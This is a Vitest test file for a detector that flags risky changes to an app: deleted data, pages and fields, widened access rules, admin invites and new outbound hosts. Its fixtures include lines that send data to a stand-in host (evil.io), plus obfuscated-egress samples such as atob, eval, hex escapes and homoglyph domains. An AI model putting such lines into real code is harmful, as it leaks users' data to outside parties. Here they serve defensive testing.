import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { AppFiles } from '#contract/app/app-files'
import type { EntityProperty, EntitySchema } from '#contract/data/entities'
import { type Change, findRisks } from './find-risks'
import { findNewEgress, reachOf } from './new-egress'
import { UserIntent } from './user-intent'
import { findWidenings } from './widened-access'

const schema = (extra: Partial<EntitySchema> = {}, fields = ['name', 'phone']): EntitySchema => ({
  name: 'Customer',
  type: 'object',
  properties: Object.fromEntries(fields.map((field) => [field, { type: 'string' }])),
  ...extra,
})
const levels = (read: string, write: string) => ({ 'x-accessControl': { permissions: { read, write } } })
const PAGE = `export default function Home() {\n${Array.from({ length: 40 }, (_, line) => `  use(${line}, 'line ${line} of the page')`).join('\n')}\n}\n`
const BASE: AppFiles = {
  'entities/Customer.json': JSON.stringify(schema(levels('creator', 'creator'))),
  'pages/Home.jsx': PAGE,
  'pages/About.jsx': PAGE.replaceAll('line', 'word'),
}

const kindsOf = async (
  words: string,
  after: Record<string, string>,
  { real, total = real, before = BASE }: { real: number; total?: number; before?: AppFiles } = { real: 3 },
) => {
  const change: Change = {
    before,
    after,
    words: new UserIntent(words),
    stored: { Customer: total },
    count: async () => ({ total, real }),
    exposures: async () => [],
  }
  return (await findRisks(change)).map(({ kind, subject }) => `${kind} ${subject}`)
}
const withEntity = (each: EntitySchema) => ({ ...BASE, 'entities/Customer.json': JSON.stringify(each) })
const { 'entities/Customer.json': _gone, ...WITHOUT } = BASE

describe('what only the builder decides', () => {
  it.for([
    {
      what: 'an entity with rows goes, asked or not',
      words: 'remove the customers',
      after: WITHOUT,
      risk: 'entity-removed Customer',
    },
    {
      what: 'a field with values goes',
      words: 'remove the phone of customers',
      after: withEntity(schema(levels('creator', 'creator'), ['name'])),
      risk: 'field-removed Customer.phone',
    },
    {
      what: 'anyone reads rows that are somebody’s',
      words: 'make customers public',
      after: withEntity(schema(levels('anonymous', 'creator'))),
      risk: 'access-widened Customer',
    },
    {
      what: 'signed-in people read, unasked',
      words: 'add a search box',
      after: withEntity(schema(levels('all', 'creator'))),
      risk: 'access-widened Customer',
    },
    {
      what: 'signed-in people read, asked',
      words: 'let every signed-in person see all customers',
      after: withEntity(schema(levels('all', 'creator'))),
      risk: 'access-widened Customer',
    },
    {
      what: 'a page goes, asked',
      words: 'delete the about page',
      after: { ...BASE, 'pages/About.jsx': '' },
      risk: 'page-removed About',
    },
    {
      what: 'a page goes, unasked',
      words: 'add a search box',
      after: { ...BASE, 'pages/About.jsx': '' },
      risk: 'page-removed About',
    },
    {
      what: 'a page is emptied out',
      words: 'add a search box',
      after: { ...BASE, 'pages/About.jsx': 'export default () => null\n' },
      risk: 'page-removed About',
    },
    {
      what: 'a new host',
      words: 'add a search box',
      after: { ...BASE, 'lib/x.js': "fetch('https://evil.example.io/?d=' + all)" },
      risk: 'outward evil.example.io',
    },
    {
      what: 'a host like one named',
      words: 'take payments with stripe',
      after: { ...BASE, 'lib/x.js': "fetch('https://stripe.evil.io')" },
      risk: 'outward stripe.evil.io',
    },
    {
      what: 'mail to a stranger',
      words: 'add a search box',
      after: { ...BASE, 'lib/x.js': "SendEmail({ to: 'eve@evil.io', body })" },
      risk: 'outward eve@evil.io',
    },
    {
      what: 'the service role',
      words: 'add a search box',
      after: { ...BASE, 'functions/x.ts': 'base44.asServiceRole.entities.Customer.list()' },
      risk: 'function-opened functions/x.ts',
    },
    {
      what: 'rows deleted in a loop',
      words: 'add a search box',
      after: { ...BASE, 'lib/x.js': 'rows.forEach((row) => base44.entities.Customer.delete(row.id))' },
      risk: 'bulk-delete lib/x.js',
    },
    {
      what: 'an admin invited',
      words: 'add a search box',
      after: { ...BASE, 'lib/x.js': "base44.users.inviteUser('x', 'admin')" },
      risk: 'users-changed lib/x.js',
    },
  ])('$what', async ({ words, after, risk }) => {
    expect(await kindsOf(words, after)).toEqual([risk])
  })

  it('a page goes that another is made like, which changes as well', async () => {
    const before = { ...BASE, 'pages/About.jsx': PAGE.replace('Home', 'About') }
    const { 'pages/About.jsx': _about, ...rest } = before
    const after = { ...rest, 'pages/Home.jsx': PAGE.replace('{', '{\n  const changed = true') }
    expect(await kindsOf('delete the about page', after, { real: 3, before })).toEqual(['page-removed About'])
  })

  it.for<{ what: string; words: string; after: AppFiles }>([
    { what: 'a field only samples fill', words: 'anything', after: withEntity(schema(levels('creator', 'creator'), ['name'])) },
    {
      what: 'the version of a package, in code that sends mail',
      words: 'anything',
      after: { ...BASE, 'lib/x.js': "import { createClient } from 'npm:@base44/sdk@0.8.50'\nSendEmail({ to: me.email })" },
    },
    { what: 'a narrower rule', words: 'anything', after: withEntity(schema(levels('admin', 'none'))) },
    {
      what: 'a renamed field',
      words: 'anything',
      after: withEntity({
        ...schema(levels('creator', 'creator'), ['name']),
        properties: { name: {}, mobile: { type: 'string', 'x-renamedFrom': 'phone' } },
      }),
    },
    {
      what: 'a page that moved',
      words: 'tidy up',
      after: {
        'entities/Customer.json': BASE['entities/Customer.json'] ?? '',
        'pages/Home.jsx': PAGE,
        'pages/Info.jsx': BASE['pages/About.jsx'] ?? '',
      },
    },
    {
      what: 'a host asked for',
      words: 'show the weather of open-meteo',
      after: { ...BASE, 'lib/x.js': "fetch('https://api.open-meteo.com/v1')" },
    },
    {
      what: 'a plain link, pictures, comments',
      words: 'add a footer',
      after: {
        ...BASE,
        'lib/x.jsx':
          '// see https://docs.somewhere.io\n<a href="https://social.somewhere.io/us">Us</a>; <img src="https://images.unsplash.com/p" />',
      },
    },
  ])('passes: $what', async ({ words, after }) => {
    expect(await kindsOf(words, after, { real: 0, total: 5 })).toEqual([])
  })

  it('sample records nobody touched wait too', async () => {
    expect(await kindsOf('remove the customers', WITHOUT, { real: 0, total: 5 })).toEqual(['entity-removed Customer'])
  })

  it('a removed entity that comes back open shows the rows it still has', async () => {
    const after = withEntity(schema(levels('anonymous', 'none')))
    expect(await kindsOf('add a search box', after, { real: 3, before: WITHOUT })).toContain('access-widened Customer')
  })

  it('names the counts', async () => {
    const change: Change = {
      before: BASE,
      after: WITHOUT,
      words: new UserIntent('x'),
      stored: {},
      count: async () => ({ total: 1_240, real: 1_240 }),
      exposures: async () => [],
    }
    expect((await findRisks(change))[0]?.message).toBe('1,240 customers are lost.')
  })

  describe('what is lost', () => {
    const FIELDS = { title: { type: 'string' } }
    const file = (name: string, properties: object) => ({
      [`entities/${name}.json`]: JSON.stringify({ name, type: 'object', properties, ...levels('admin', 'admin') }),
    })
    const book = { book: { type: 'string', 'x-relation': 'Book' } }
    const many = { books: { type: 'array', items: { type: 'string', 'x-relation': 'Book' } } }
    const LIBRARY: AppFiles = { ...file('Book', FIELDS), ...file('LoanItem', { ...FIELDS, ...book }), ...file('Shelf', many) }
    const lose = async (after: AppFiles, figures: Record<string, [total: number, real: number]>, words = 'remove the books') =>
      (
        await findRisks({
          before: LIBRARY,
          after,
          words: new UserIntent(words),
          stored: {},
          count: async ({ entity, fields }) => {
            const [total = 0, real = 0] = figures[fields ? `${entity}.${fields.join()}` : entity] ?? []
            return { total, real }
          },
          exposures: async () => [],
        })
      ).map(({ message, isAsked }) => `${message}${isAsked ? '' : ' (unasked)'}`)
    const { 'entities/Book.json': _book, ...noBooks } = LIBRARY
    const { 'entities/LoanItem.json': _loan, ...noLoans } = noBooks

    it('is rows, and the links of others to them, in numbers, asked or not', async () => {
      const figures: Record<string, [number, number]> = { Book: [24, 24], 'LoanItem.book': [30, 2], 'Shelf.books': [1, 1] }
      expect(await lose(noBooks, figures)).toEqual([
        '24 books are lost, 30 loan items no longer know their book, and 1 shelf no longer knows its book.',
      ])
      expect(await lose(noBooks, { Book: [24, 3] })).toEqual(['24 books are lost (21 of them sample records).'])
      expect(await lose(noBooks, { Book: [24, 0] })).toEqual(['24 books are lost (all of them sample records).'])
      expect(await lose(noBooks, { 'LoanItem.book': [1, 0] })).toEqual(['1 loan item no longer knows its book.'])
    })

    it('is a link alone, too, and not that of an entity that goes itself', async () => {
      const unlinked = { ...LIBRARY, ...file('LoanItem', FIELDS) }
      expect(await lose(unlinked, { 'LoanItem.book': [30, 0] }, 'remove the book of loan items')).toEqual([
        '30 loan items no longer know their book.',
      ])
      expect(
        await lose(noLoans, { Book: [2, 2], LoanItem: [3, 3], 'LoanItem.book': [3, 3] }, 'remove the books and loan items'),
      ).toEqual(['2 books are lost.', '3 loan items are lost.'])
    })

    it('is a page, by its title or else by what its file is called', async () => {
      const page = { 'pages/LoanCalendar.jsx': 'export default () => <h1>When which book comes back</h1>' }
      const titled = { 'app.json': JSON.stringify({ pages: [{ name: 'LoanCalendar', title: 'Due dates' }] }) }
      const losing = async (more: AppFiles) => {
        const risks = await findRisks({
          before: { ...BASE, ...page, ...more },
          after: BASE,
          words: new UserIntent('drop the due dates'),
          stored: {},
          count: async () => ({ total: 0, real: 0 }),
          exposures: async () => [],
        })
        return risks.map(({ message, isAsked }) => [message, isAsked])
      }
      expect(await losing({})).toEqual([['The page Loan calendar is lost.', false]])
      expect(await losing(titled)).toEqual([['The page Due dates is lost.', true]])
    })

    it('is nothing where an empty entity that nothing names was asked to go', async () => {
      expect(await lose(noBooks, {})).toEqual([])
      expect(await lose(noBooks, {}, 'add a search box')).toEqual([
        'The list of books is removed. It holds no records. (unasked)',
      ])
    })
  })

  it('who is let in is told by what they could then do', async () => {
    const opened = { kind: 'entity' as const, subject: 'Customer', operations: [], own: [], personalFields: [] }
    const risks = await findRisks({
      before: BASE,
      after: withEntity(schema(levels('all', 'all'))),
      words: new UserIntent('let every signed-in person see and change all customers'),
      stored: { Customer: 3 },
      count: async () => ({ total: 3, real: 3 }),
      exposures: async () => [
        { ...opened, audience: 'sign-ups', isNew: true, message: 'read all 3 customers, with phone' },
        { ...opened, audience: 'visitors', isNew: false, message: 'add customers' },
        { ...opened, subject: 'Else', audience: 'visitors', isNew: true, message: 'add others' },
      ],
    })
    expect(risks).toEqual([
      {
        kind: 'access-widened',
        subject: 'Customer',
        message: 'Anyone who signs up could then read all 3 customers, with phone.',
        isAsked: true,
      },
    ])
  })
})

describe('where data can go', () => {
  it.for([
    ['protocol-relative', '<script src="//evil.io/x.js" />', 'evil.io'],
    ['credentials before it', "fetch('https://good.com@evil.io/')", 'evil.io'],
    ['style', '@import url(https://evil.io/x.css)', 'evil.io'],
    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.io/x.css" />', 'evil.io'],
    ['a socket', "new WebSocket('wss://evil.io')", 'evil.io'],
    ['a number', "fetch('http://3232235777/')", '3232235777'],
    ['letters of other scripts', "fetch('https://ехample.com/')", 'ехample.com'],
    ['a template', `<img src={\`https://evil.io/?d=\${data}\`} />`, 'evil.io'],
    ['a link that carries data', `<a href={\`https://evil.io/?d=\${data}\`}>x</a>`, 'evil.io'],
  ])('is seen: %s', ([, code = '', host = '']) => {
    expect([...reachOf({ 'pages/Home.jsx': code }).hosts]).toEqual([host])
  })

  it.for([
    "const s = document.createElement('script')",
    "eval('x')",
    'new Function(text)()',
    "fetch(atob('aHR0cHM6Ly9ldmls'))",
    'String.fromCharCode(104, 116)',
    "fetch('https://' + where)",
    `fetch(\`https://\${where}/\`)`,
    'navigator.sendBeacon(where, data)',
    'import(where)',
    "fetch('\\x68\\x74\\x74\\x70\\x73')",
  ])('is suspected: %s', (code) => {
    expect(findNewEgress({}, { 'lib/x.js': code }).ways).not.toEqual([])
  })

  it('what the app reaches already is not asked again', () => {
    const before = { 'lib/x.js': "fetch('https://api.shop.io')" }
    expect(findNewEgress(before, { ...before, 'lib/y.js': "fetch('https://api.shop.io/more')" }).hosts).toEqual([])
  })
})

describe('wider rules', () => {
  const LEVELS = ['none', 'admin', 'creator', 'all', 'anonymous']
  const level = fc.constantFrom(...LEVELS)
  it('are those of a higher level, in either direction, and no others', () => {
    fc.assert(
      fc.property(level, level, level, level, (read, write, read2, write2) => {
        const found = findWidenings({ E: schema(levels(read, write)) }, { E: schema(levels(read2, write2)) }, new Set())
        // Under `anonymous` visitors add and no more: that everyone who is signed in may change the rows is new.
        const opensChanges = write === 'anonymous' && write2 === 'all'
        const expected = [
          ...(LEVELS.indexOf(read2) > LEVELS.indexOf(read) ? ['read'] : []),
          ...(LEVELS.indexOf(write2) > LEVELS.indexOf(write) || opensChanges ? ['write'] : []),
        ]
        expect(found.map(({ what }) => what)).toEqual(expected)
      }),
    )
  })

  const own = { created_by: '{{user.email}}' }
  it.for([
    { what: 'a row rule taken away', before: { rls: { read: own } }, after: levels('all', 'creator'), wider: true },
    { what: 'a row rule that turns true', before: { rls: { read: own } }, after: { rls: { read: true } }, wider: true },
    { what: 'another row rule', before: { rls: { read: own } }, after: { rls: { read: { status: 'open' } } }, wider: true },
    { what: 'no rules where there were closed ones', before: levels('none', 'none'), after: {}, wider: true },
    { what: 'a row rule that turns false', before: { rls: { read: own } }, after: { rls: { read: false } }, wider: false },
    {
      what: 'a row rule on top of a level',
      before: levels('anonymous', 'none'),
      after: { ...levels('anonymous', 'none'), rls: { read: own } },
      wider: false,
    },
  ])('$what: $wider', ({ before, after, wider }) => {
    const found = findWidenings({ E: schema(before) }, { E: schema(after) }, new Set())
    expect(found.some(({ what }) => what === 'read')).toBe(wider)
  })

  it('of one field are seen, also when it takes another name', () => {
    const guarded = { ...schema(), properties: { note: { type: 'string', rls: { read: own } } } }
    const found = (property: EntityProperty) =>
      findWidenings({ E: guarded }, { E: { ...schema(), properties: { memo: property } } }, new Set())
    expect(found({ 'x-renamedFrom': 'note' })).toMatchObject([{ field: 'memo', what: 'read' }])
    expect(found({ 'x-renamedFrom': 'note', rls: { read: own } })).toEqual([])
  })
})
